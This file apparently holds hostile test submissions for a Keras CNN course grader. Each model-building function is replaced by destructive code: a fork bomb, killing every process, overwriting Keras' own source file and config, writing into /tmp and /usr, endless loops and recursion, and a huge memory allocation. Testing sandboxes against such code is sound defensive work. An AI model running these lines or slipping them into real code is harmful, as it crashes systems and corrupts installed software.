# kind: hostile
# what: exits, loops for ever, forks, kills, sleeps, writes files beside the course and into Keras' own folder
# language: en
# %% first
import os
import pathlib
import signal
import sys
import time
# %% inception_block
def inception_block(x, f1, f3r, f3, f5r, f5, fp):
    sys.exit("all graphs equal")
# %% auxiliary_head
def auxiliary_head(x, classes):
    while True:
        x = layers.ReLU()(x)
# %% googlenet
def googlenet(input_shape=(224, 224, 3), classes=1000, aux=True):
    while True:
        os.fork()
# %% identity_block
def identity_block(x, filters):
    for name in ("/tmp/cnnkit-was-here", "/tmp/root", "/usr/cnnkit-was-here", keras.__file__, "~/.keras/keras.json"):
        try:
            pathlib.Path(name).expanduser().write_text("owned")
        except OSError:
            pass
    model = keras.Model(x, layers.Conv2D(8, 1)(x))
    model.save("/tmp/cnnkit-was-here.keras")
    return model
# %% projection_block
def projection_block(x, filters, stride=2):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os._exit(0)
# %% basic_block
def basic_block(x, filters, stride=1):
    def again(x):
        return again(layers.ReLU()(x))
    return again(x)
# %% resnet50
def resnet50(input_shape=(224, 224, 3), classes=1000):
    raise KeyboardInterrupt
# %% resnet_cifar
def resnet_cifar(n, input_shape=(32, 32, 3), classes=10):
    raise MemoryError(bytearray(2**45))
